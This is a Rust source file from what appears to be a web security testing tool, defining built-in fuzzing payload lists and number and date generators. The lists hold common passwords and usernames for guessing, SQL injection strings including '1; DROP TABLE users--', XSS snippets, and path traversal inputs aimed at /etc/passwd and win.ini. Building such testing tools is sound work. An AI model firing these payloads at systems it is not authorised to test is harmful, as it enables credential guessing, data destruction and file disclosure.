//! Built-in payload lists and generators

use chrono::NaiveDate;
use once_cell::sync::Lazy;
use serde::Serialize;
use webintercept_core::{Error, Result};

/// A named, fixed payload list
#[derive(Debug, Clone, Serialize)]
pub struct BuiltinPayloadList {
    pub key: &'static str,
    pub name: &'static str,
    pub description: &'static str,
    pub payloads: Vec<String>,
}

static BUILTIN: Lazy<Vec<BuiltinPayloadList>> = Lazy::new(|| {
    vec![
        BuiltinPayloadList {
            key: "numbers_1_100",
            name: "Numbers 1-100",
            description: "Sequential numbers from 1 to 100",
            payloads: (1..=100).map(|i| i.to_string()).collect(),
        },
        BuiltinPayloadList {
            key: "common_passwords",
            name: "Common Passwords",
            description: "Top 20 common passwords",
            payloads: [
                "123456", "password", "12345678", "qwerty", "123456789",
                "12345", "1234", "111111", "1234567", "dragon",
                "123123", "baseball", "iloveyou", "trustno1", "sunshine",
                "princess", "welcome", "shadow", "superman", "michael",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        },
        BuiltinPayloadList {
            key: "common_usernames",
            name: "Common Usernames",
            description: "Common usernames for testing",
            payloads: [
                "admin", "administrator", "root", "user", "test",
                "guest", "info", "adm", "mysql", "oracle",
                "ftp", "pi", "puppet", "ansible", "vagrant",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        },
        BuiltinPayloadList {
            key: "sqli_basic",
            name: "SQLi Basic",
            description: "Basic SQL injection payloads",
            payloads: [
                "'", "\"", "' OR '1'='1", "\" OR \"1\"=\"1", "' OR 1=1--",
                "\" OR 1=1--", "1' OR '1'='1", "1\" OR \"1\"=\"1",
                "' UNION SELECT NULL--", "' AND 1=1--", "' AND 1=2--",
                "1; DROP TABLE users--", "admin'--", "') OR ('1'='1",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        },
        BuiltinPayloadList {
            key: "xss_basic",
            name: "XSS Basic",
            description: "Basic XSS payloads",
            payloads: [
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "javascript:alert(1)",
                "<body onload=alert(1)>",
                "<iframe src=\"javascript:alert(1)\">",
                "'\"><script>alert(1)</script>",
                "<input onfocus=alert(1) autofocus>",
                "<marquee onstart=alert(1)>",
                "<video src=x onerror=alert(1)>",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        },
        BuiltinPayloadList {
            key: "path_traversal",
            name: "Path Traversal",
            description: "Directory traversal payloads",
            payloads: [
                "../", "..\\", "../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "....//....//....//etc/passwd",
                "%2e%2e%2f", "%2e%2e/", "..%2f",
                "%2e%2e%5c", "..%5c", "..%255c",
                "/etc/passwd", "C:\\Windows\\win.ini",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        },
    ]
});

/// All built-in payload lists
pub fn builtin_lists() -> &'static [BuiltinPayloadList] {
    &BUILTIN
}

/// Look up a built-in list by key
pub fn builtin_list(key: &str) -> Option<&'static BuiltinPayloadList> {
    BUILTIN.iter().find(|list| list.key == key)
}

/// Integer range payloads: `start..=end` stepping by `step`
pub fn generate_numbers(start: i64, end: i64, step: i64) -> Result<Vec<String>> {
    if step <= 0 {
        return Err(Error::invalid_config("step must be positive"));
    }
    let mut payloads = Vec::new();
    let mut current = start;
    while current <= end {
        payloads.push(current.to_string());
        current += step;
    }
    Ok(payloads)
}

/// Daily date payloads from `start` to `end` (inclusive, ISO input),
/// rendered with a strftime format
pub fn generate_dates(start: &str, end: &str, format: &str) -> Result<Vec<String>> {
    let start = NaiveDate::parse_from_str(start, "%Y-%m-%d")
        .map_err(|e| Error::invalid_config(format!("bad start date: {e}")))?;
    let end = NaiveDate::parse_from_str(end, "%Y-%m-%d")
        .map_err(|e| Error::invalid_config(format!("bad end date: {e}")))?;

    let mut payloads = Vec::new();
    let mut current = start;
    while current <= end {
        payloads.push(current.format(format).to_string());
        current = current
            .succ_opt()
            .ok_or_else(|| Error::invalid_config("date range overflow"))?;
    }
    Ok(payloads)
}
